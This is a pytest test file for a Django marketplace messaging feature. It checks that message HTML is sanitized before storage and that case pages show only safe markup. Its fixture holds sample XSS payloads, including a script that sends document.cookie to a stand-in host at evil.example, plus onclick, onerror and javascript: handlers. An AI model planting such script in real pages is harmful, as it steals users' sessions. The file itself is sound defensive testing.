"""R14 where messages are stored: HTML is sanitized once, on its way into the database, and
every message keeps a plain-text body; both case pages show only the sanitized HTML."""

import pytest
from django.urls import reverse

from messaging.sending import services
from tests.factories import OrderFactory

pytestmark = pytest.mark.django_db

HOSTILE = (
    '<p onclick="steal()">Where is <b>my parcel</b>?</p>'
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    '<a href="javascript:alert(1)">track it</a>'
    '<img src="x" onerror="alert(2)" alt="photo">'
)


@pytest.fixture
def hostile_message(seller, buyer):
    order = OrderFactory(seller=seller, buyer=buyer)
    return services.message_send(
        sender=buyer,
        seller=seller,
        order=order,
        draft=services.Draft(
            subject="Parcel", body_text="", body_html=HOSTILE, contact_reason="shipping_or_delivery"
        ),
    )


def test_r14_html_is_sanitized_before_it_is_stored(hostile_message):
    stored = hostile_message.body_html
    assert "<b>my parcel</b>" in stored
    for hostile in ("<script", "onclick", "onerror", "javascript:", "document.cookie"):
        assert hostile not in stored


def test_r14_every_message_keeps_a_plain_text_body(hostile_message):
    assert "Where is my parcel?" in hostile_message.body_text
    assert "<" not in hostile_message.body_text


def test_r14_both_case_pages_show_only_the_sanitized_html(
    hostile_message, seller_client, buyer_client
):
    case_id = hostile_message.case_id
    for client, name in (
        (seller_client, "messaging:case_detail"),
        (buyer_client, "messaging:buyer_case_detail"),
    ):
        page = client.get(reverse(name, args=[case_id])).text
        assert "<b>my parcel</b>" in page
        assert "steal()" not in page
        assert "evil.example" not in page
        assert "alert(" not in page


def test_r14_a_text_message_is_escaped_not_rendered(seller, buyer, seller_client):
    order = OrderFactory(seller=seller, buyer=buyer)
    message = services.message_send(
        sender=buyer,
        seller=seller,
        order=order,
        draft=services.Draft(subject="Hi", body_text="<b>not html</b>", contact_reason="other"),
    )
    assert message.body_html == ""
    page = seller_client.get(reverse("messaging:case_detail", args=[message.case_id])).text
    assert "&lt;b&gt;not html&lt;/b&gt;" in page
    assert "<b>not html</b>" not in page
